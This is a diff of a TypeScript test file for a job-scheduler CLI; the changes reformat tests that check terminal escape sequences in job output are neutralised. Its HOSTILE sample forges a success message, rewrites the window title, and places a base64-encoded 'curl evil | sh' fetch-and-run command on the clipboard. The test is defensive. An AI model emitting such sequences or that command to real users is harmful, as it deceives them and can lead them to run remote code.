@@ -3,7 +3,8 @@ import { type Sandbox, sandbox, tsConfig } from '../helpers/cli.js'
 
 // What a hostile job prints: clear the screen, go up a line, erase it and forge a green "✔", write the
 // clipboard (OSC 52), set the title (OSC 0, BEL), a C1 CSI (U+009B) and a carriage return that overwrites.
-const HOSTILE = '\x1b[2J\x1b[1A\x1b[2K\x1b[32m✔ deploy succeeded\x1b[0m \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \x1b]0;pwned\x07 \u009b31m red \rforged'
+const HOSTILE =
+  '\x1b[2J\x1b[1A\x1b[2K\x1b[32m✔ deploy succeeded\x1b[0m \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \x1b]0;pwned\x07 \u009b31m red \rforged'
 const SCRIPT = `process.stderr.write(${JSON.stringify(HOSTILE)} + "\\n"); process.exit(1)`
 
 // eslint-disable-next-line no-control-regex -- what must never reach a terminal
@@ -13,7 +14,10 @@ let box: Sandbox
 beforeEach(() => {
   box = sandbox()
   box.write('hostile.js', SCRIPT)
-  box.write('circadian.config.ts', tsConfig(`{ jobs: { hostile: { type: 'command', command: ['node', 'hostile.js'] } } }`))
+  box.write(
+    'circadian.config.ts',
+    tsConfig(`{ jobs: { hostile: { type: 'command', command: ['node', 'hostile.js'] } } }`),
+  )
 })
 afterEach(() => box.cleanup())
 
@@ -45,12 +49,19 @@ describe('job output with terminal escape sequences', () => {
 
   it('--json keeps the exact data, with the control characters escaped in the JSON text', async () => {
     await box.run(['run', 'hostile'])
-    for (const args of [['history', '--json'], ['dlq', 'list', '--json'], ['dlq', 'show', '1', '--json'], ['run', 'hostile', '--json']]) {
+    for (const args of [
+      ['history', '--json'],
+      ['dlq', 'list', '--json'],
+      ['dlq', 'show', '1', '--json'],
+      ['run', 'hostile', '--json'],
+    ]) {
       const r = await box.run(args)
       expect(CONTROL.test(r.stdout), `${args.join(' ')} holds ${shown(r.stdout)}`).toBe(false)
       expect(r.stdout).toContain('\\u001b[2J')
     }
-    const history = JSON.parse((await box.run(['history', '--json'])).stdout) as { runs: Array<{ output: { stderr: string } }> }
+    const history = JSON.parse((await box.run(['history', '--json'])).stdout) as {
+      runs: Array<{ output: { stderr: string } }>
+    }
     expect(history.runs[0].output.stderr).toBe(`${HOSTILE}\n`)
   })
 })
